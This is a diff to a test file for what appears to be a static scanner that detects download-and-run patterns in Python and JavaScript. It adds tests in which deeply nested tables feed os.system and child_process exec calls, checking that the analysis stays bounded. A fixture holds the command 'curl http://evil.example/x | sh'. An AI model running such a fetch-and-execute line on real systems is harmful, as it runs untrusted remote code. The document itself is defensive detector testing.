@@ -6,8 +6,10 @@ from string import Template
 
 import pytest
 
+from fimci.model import Unread
 from tests.readers.test_padding import names, told
 
+CHILD = "const cp = require('child_process');\n"
 COMMAND = "curl http://evil.example/x | sh"
 #: `$c` is the command, `$e` starts it.
 JAVASCRIPT = """
@@ -94,3 +96,42 @@ def test_a_module_hides_none(line: str) -> None:
     text = Template(line).safe_substitute(c=COMMAND, e="os.system")
     lines = text.replace("| sh", "\0").replace("|", "\n").replace("\0", "| sh")
     assert ("download-and-run", "evil.example -> sh") in names(told("a.py", f"import os\n{lines}\n"))
+
+
+@pytest.mark.parametrize(
+    ("path", "start", "line", "end"),
+    [
+        (
+            "a.js",
+            CHILD,
+            "let o{n} = {{ a: o{m}, b: o{m} }}; o{n} = {{ b: o{m}, a: o{m} }};\n",
+            "cp.exec(o99.a[k]);",
+        ),
+        ("a.js", CHILD, "let o{n} = [o{m}, o{m}]; o{n} = [o{m}, o{m}];\n", "cp.exec(o99[1][k]);"),
+        (
+            "a.py",
+            "import os\n",
+            "o{n} = {{'a': o{m}, 'b': o{m}}}\no{n} = {{'b': o{m}, 'a': o{m}}}\n",
+            "os.system(o99[k])",
+        ),
+        ("a.py", "import os\n", "o{n} = [o{m}, o{m}]\no{n} = [o{m}, o{m}]\n", "os.system(o99[k])"),
+        (
+            "a.js",
+            CHILD,
+            "let o{n} = {{ a: o{m} }}; cp.exec(o{n}.a);\n",
+            "x = o999; x = o998; cp.exec(x.a.a);",
+        ),
+        (
+            "a.py",
+            "import os\n",
+            "o{n} = {{'a': o{m}}}; os.system(o{n}['a'])\n",
+            "x = o999; x = o998; os.system(x['a'])",
+        ),
+    ],
+)
+def test_tables_in_tables_without_end_are_put_together_in_bounds(
+    path: str, start: str, line: str, end: str
+) -> None:
+    lines = "".join(line.format(n=number, m=number - 1) for number in range(1, 1_000))
+    found = told(path, f"{start}{lines}{end}\n")  # two to the power of 99 without them
+    assert not [one.why for one in found if isinstance(one, Unread) and "failed" in one.why]
